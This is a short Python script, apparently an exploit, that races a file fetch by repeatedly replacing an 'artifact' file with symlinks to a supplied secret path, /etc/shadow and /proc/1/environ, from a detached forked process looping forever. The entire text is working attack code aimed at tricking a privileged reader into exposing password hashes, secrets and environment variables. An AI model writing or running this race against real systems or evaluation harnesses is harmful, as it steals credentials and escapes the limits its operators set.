"""Swap a result for a link while it is being fetched."""

import os
import sys

targets = dict(line.split(" ", 1) for line in sys.stdin.read().splitlines())
open("artifact", "w").write("mine")
if os.fork() == 0:
    os.setsid()
    while True:
        for path in (targets["secret"], "/etc/shadow", "/proc/1/environ"):
            try:
                os.symlink(path, "other")
                os.rename("other", "artifact")
            except OSError:
                pass
